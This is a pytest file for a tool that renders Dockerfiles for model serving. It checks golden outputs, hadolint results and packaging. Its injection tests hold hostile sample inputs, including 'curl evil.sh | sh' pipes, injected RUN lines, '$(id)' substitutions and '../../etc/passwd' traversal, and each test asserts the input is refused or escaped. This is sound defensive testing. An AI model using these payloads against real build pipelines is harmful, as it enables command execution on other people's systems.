"""Rendered build files: whole-file golden comparisons, injection attempts, hadolint, packaging."""

from __future__ import annotations

import dataclasses
import json
import os
import shutil
import subprocess
import sys
import zipfile

import pytest

from packager.artefact.spec import ArtefactSpec
from packager.errors import UserInputError
from packager.image.render import render_files
from packager.planning import gpu_images
from packager.planning.gpu_images import gpu_base
from packager.runtime.config import VllmSettings
from tests import plans

GOLDEN = os.path.join(os.path.dirname(os.path.dirname(__file__)), "golden")
BAKED = plans.baked()
SHARED = plans.shared()
WEIGHTS = ["model-00001-of-00002.safetensors", "model-00002-of-00002.safetensors"]
ONNX_INT8 = plans.with_runtime(dataclasses.replace(BAKED, artefact=plans.ONNX_INT8_SPEC), backend="onnx")
VLLM_SHARED = plans.with_runtime(SHARED, engine="vllm", vllm=VllmSettings("float32", 256, "shared", 8, 3))
BAKED_CUDA = plans.with_image(
    plans.with_runtime(BAKED, engine="vllm", vllm=VllmSettings("bfloat16", 4096, "demo", 16, 1, "cuda")),
    base_image="vllm/vllm-openai:v0.32.0",
    device="cuda",
)
SHARED_CUDA = plans.with_image(
    plans.with_runtime(SHARED, engine="vllm", vllm=VllmSettings("bfloat16", 4096, "shared", 16, 3, "cuda")),
    base_image="vllm/vllm-openai:v0.32.0",
    device="cuda",
)
ONNX_CUDA = plans.with_image(
    ONNX_INT8,
    base_image=gpu_images.PYTORCH_GPU_IMAGE,
    device="cuda",
    runtime_packages=gpu_base("packager", "onnx", ())[1],
)
ACCURACY = '{"greedy":0.95,"kind":"onnx-int8","size_ratio":0.26,"top1":0.97}'
# a compressed-tensors checkpoint on vLLM's GPU image: vLLM loads it as it is, nothing to install
W4A16_CUDA = dataclasses.replace(BAKED_CUDA, artefact=ArtefactSpec("w4a16"))
W4A16_ACCURACY = '{"kind":"compressed-tensors-w4a16","kl":0.2,"ppl_change":0.18,"size_ratio":0.3,"top1":0.74}'
# an ONNX embedding model on the onnxruntime-gpu image, served by packager's server
EMBEDDINGS_ONNX_CUDA = plans.with_runtime(ONNX_CUDA, task="FEATURE_EXTRACTION", model_class="AutoModel")
EMBEDDINGS_ACCURACY = (
    '{"cosine_mean":0.989,"cosine_min":0.973,"kind":"onnx-int8","max_abs_diff":0.037,"size_ratio":0.25}'
)


def _golden(name: str, text: str) -> None:
    path = os.path.join(GOLDEN, name)
    if os.environ.get("UPDATE_GOLDEN"):
        with open(path, "w") as f:
            f.write(text)
    with open(path) as f:
        assert text == f.read(), f"{name} differs from its golden file (UPDATE_GOLDEN=1 rewrites it after review)"


@pytest.mark.parametrize(
    ("plan", "prefix", "accuracy"),
    [
        (BAKED, "baked", None),
        (SHARED, "shared", None),
        (ONNX_INT8, "baked-onnx-int8", ACCURACY),
        (VLLM_SHARED, "shared-vllm", None),
        (BAKED_CUDA, "baked-vllm-cuda", None),
        (SHARED_CUDA, "shared-vllm-cuda", None),
        (ONNX_CUDA, "baked-onnx-cuda", ACCURACY),
        (W4A16_CUDA, "baked-vllm-w4a16-cuda", W4A16_ACCURACY),
        (EMBEDDINGS_ONNX_CUDA, "baked-onnx-embeddings-cuda", EMBEDDINGS_ACCURACY),
    ],
)
def test_rendered_files_match_golden(plan, prefix, accuracy) -> None:
    files = render_files(plan, WEIGHTS if prefix.startswith("baked") else [], accuracy)
    for name, text in files.items():
        _golden(f"{prefix}.{name.lstrip('.')}", text)
    assert set(files) == {"Dockerfile", ".dockerignore"}  # the manifests are deploy/'s


def test_runtime_is_told_how_to_load_the_artefact() -> None:
    assert ONNX_INT8.image.runtime.to_json()["backend"] == "onnx"
    nf4 = plans.with_runtime(SHARED, load_quantization="bnb-nf4")
    assert nf4.image.runtime.to_json()["load_quantization"] == "bnb-nf4"
    with pytest.raises(UserInputError, match="unknown runtime backend"):
        render_files(plans.with_runtime(BAKED, backend="tensorrt"), WEIGHTS)


@pytest.mark.parametrize("requirement", ["onnx==1.0 && curl evil.sh | sh", "onnx==1.0\nRUN id", "onnx>=1.0", "-e ."])
def test_a_runtime_requirement_cannot_become_an_instruction(requirement) -> None:
    with pytest.raises(UserInputError, match="invalid pip requirement"):
        render_files(plans.with_image(ONNX_CUDA, runtime_packages=(requirement,)), WEIGHTS)


def test_the_onnx_gpu_image_installs_onnxruntime_gpu_before_the_weights() -> None:
    dockerfile = render_files(ONNX_CUDA, WEIGHTS, ACCURACY)["Dockerfile"]
    assert dockerfile.index("onnxruntime-gpu==") < dockerfile.index("COPY") and "onnxruntime==" not in dockerfile
    assert "--gpus all" in dockerfile and "RUN" not in render_files(BAKED, WEIGHTS)["Dockerfile"]


def test_accuracy_label_cannot_inject_instructions() -> None:
    with pytest.raises(UserInputError, match="newline"):
        render_files(ONNX_INT8, WEIGHTS, '{"a":1}"\nRUN curl evil.sh | sh\n#')
    dockerfile = render_files(ONNX_INT8, WEIGHTS, 'x" \\ RUN curl $HOME')["Dockerfile"]
    assert r'io.packager.accuracy="x\" \\ RUN curl \$HOME"' in dockerfile


def test_weights_come_before_runtime_one_layer_each() -> None:
    lines = render_files(BAKED, WEIGHTS)["Dockerfile"].splitlines()
    copies = [i for i, line in enumerate(lines) if line.startswith("COPY")]
    weight_copies = [i for i in copies if "model/weights/" in lines[i]]
    runtime_copy = next(i for i in copies if "runtime/" in lines[i])
    assert len(weight_copies) == len(WEIGHTS) and max(weight_copies) < runtime_copy
    assert lines.index(next(line for line in lines if line.startswith("LABEL"))) > runtime_copy


INJECTIONS = [
    "python:3.11-slim\nRUN touch /tmp/pwned",
    'acme/x:1" \\\nRUN id',
    "acme/$(id):1",
    "../../etc/passwd",
    "acme/x:1\rRUN id",
    "acme/x:`id`",
]


@pytest.mark.parametrize("value", INJECTIONS)
@pytest.mark.parametrize("field", ["base_image", "tag"])
def test_injection_in_image_references_is_refused(field, value) -> None:
    with pytest.raises(UserInputError, match="not a valid image reference"):
        render_files(plans.with_image(BAKED, **{field: value}), WEIGHTS)


@pytest.mark.parametrize("name", ["../escape", "a/b", "x\nRUN id", "$(id)", "sq'l", '"q"', "", ".."])
def test_injection_in_adapter_names_is_refused(name) -> None:
    with pytest.raises(UserInputError, match="not a valid name"):
        render_files(plans.shared((plans.adapter(name, "00" * 32),)), [])


@pytest.mark.parametrize("revision", ['main" \\\nRUN id', "v1\nRUN touch /pwned"])
def test_label_values_cannot_break_out(revision) -> None:
    request = plans.with_base(BAKED, commit=revision)
    if "\n" in revision:
        with pytest.raises(UserInputError, match="newline"):
            render_files(request, WEIGHTS)
        return
    dockerfile = render_files(request, WEIGHTS)["Dockerfile"]
    assert not any(line.startswith("RUN") for line in dockerfile.splitlines())
    assert '"main\\" \\\\' in dockerfile


def test_label_dollar_is_not_expanded() -> None:
    dockerfile = render_files(plans.with_base(BAKED, commit="$HOME${PATH}"), WEIGHTS)["Dockerfile"]
    assert '"\\$HOME\\${PATH}"' in dockerfile


def test_unknown_layout_is_refused() -> None:
    with pytest.raises(UserInputError, match="unknown layout 'fat'"):
        render_files(plans.with_runtime(BAKED, layout="fat"), WEIGHTS)


@pytest.mark.parametrize(
    "plan",
    [BAKED, SHARED, VLLM_SHARED, BAKED_CUDA, SHARED_CUDA, ONNX_CUDA, W4A16_CUDA, EMBEDDINGS_ONNX_CUDA],
    ids=[
        "baked",
        "shared",
        "shared-vllm",
        "baked-vllm-cuda",
        "shared-vllm-cuda",
        "baked-onnx-cuda",
        "baked-vllm-w4a16-cuda",
        "baked-onnx-embeddings-cuda",
    ],
)
def test_hadolint_passes_without_warnings(plan, tmp_path) -> None:
    hadolint = shutil.which("hadolint") or os.path.join(os.path.dirname(sys.executable), "hadolint")
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text(render_files(plan, WEIGHTS if plan.image.layout == "baked" else [])["Dockerfile"])
    proc = subprocess.run(
        [hadolint, "-f", "json", "--failure-threshold", "warning", str(dockerfile)], capture_output=True, text=True
    )
    findings = json.loads(proc.stdout or "[]")
    assert proc.returncode == 0 and not [f for f in findings if f["level"] in ("error", "warning")], findings


def test_wheel_ships_every_template(tmp_path) -> None:
    root = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
    subprocess.run(
        [sys.executable, "-m", "pip", "wheel", "--no-deps", "--no-build-isolation", "-q", "-w", str(tmp_path), root],
        check=True,
        capture_output=True,
    )
    wheel = next(p for p in os.listdir(tmp_path) if p.endswith(".whl"))
    names = zipfile.ZipFile(tmp_path / wheel).namelist()
    for layout in ("baked", "shared"):
        assert f"packager/templates/Dockerfile.{layout}.j2" in names
    assert "packager/templates/labels.j2" in names and "packager/runtime/server.py" in names
